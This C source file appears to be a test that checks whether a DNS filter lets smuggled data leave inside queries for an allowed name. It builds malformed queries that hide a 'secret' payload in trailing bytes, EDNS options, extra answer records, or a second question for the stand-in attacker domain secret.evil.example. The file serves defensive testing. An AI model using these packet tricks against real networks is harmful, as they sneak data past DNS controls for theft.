// A question for a listed name that carries something else: what leaves is written anew, or
// nothing leaves.
#define _GNU_SOURCE
#include "../names.h"

static long sent(const char* text, size_t size, size_t most) {
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  const struct at to = at4(SERVER, 53);
  if (sendto(fd, text, size, 0, &to.any, to.size) < 0) return closed_after(fd, -1);
  const long got = answered(fd);
  if (got >= 0 && (size_t)got <= most) errno = EMSGSIZE;
  return closed_after(fd, got < 0 || (size_t)got <= most ? -1 : 0);
}
static long try_trailing(void) {
  char text[512];
  const size_t size = ask(text, "db.example.com");
  memcpy(text + size, "secret", 6);
  return sent(text, size + 6, size);
}
static long with_option(unsigned char code, const char* data, size_t length) {
  char text[512];
  const size_t size = ask(text, "db.example.com");
  text[11] = 1;
  memcpy(text + size, "\0\0\x29\x04\xd0\0\0\0\0\0", 10);
  text[size + 10] = (char)(length + 4);
  text[size + 11] = 0;
  text[size + 12] = (char)code;
  text[size + 13] = 0;
  text[size + 14] = (char)length;
  memcpy(text + size + 15, data, length);
  return sent(text, size + 15 + length, size + 11);
}
static long try_subnet(void) { return with_option(8, "\0\1\40\0\12\1\2\3", 8); }
static long try_local_option(void) { return with_option(65, "secret", 6); }
static long try_padding(void) { return with_option(12, "secret", 6); }
static long try_cookie(void) { return with_option(10, "secret..", 8); }
static long try_two_questions(void) {
  char text[512], other[512];
  const size_t size = ask(text, "db.example.com"), more = ask(other, "secret.evil.example");
  text[5] = 2;
  memcpy(text + size, other + 12, more - 12);
  return sent(text, size + more - 12, size);
}
static long try_record(void) {
  char text[512];
  const size_t size = ask(text, "db.example.com");
  text[7] = 1;
  memcpy(text + size, "\xc0\x0c\0\20\0\1\0\0\0\0\0\7\6secret", 19);
  return sent(text, size + 19, size);
}

#define ACT(name) \
  { #name, try_##name }
static const struct act acts[] = {ACT(trailing), ACT(subnet), ACT(local_option),
                                  ACT(padding),  ACT(cookie), ACT(two_questions),
                                  ACT(record),   {NULL, NULL}};

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  return try_all(acts, argv + 1);
}
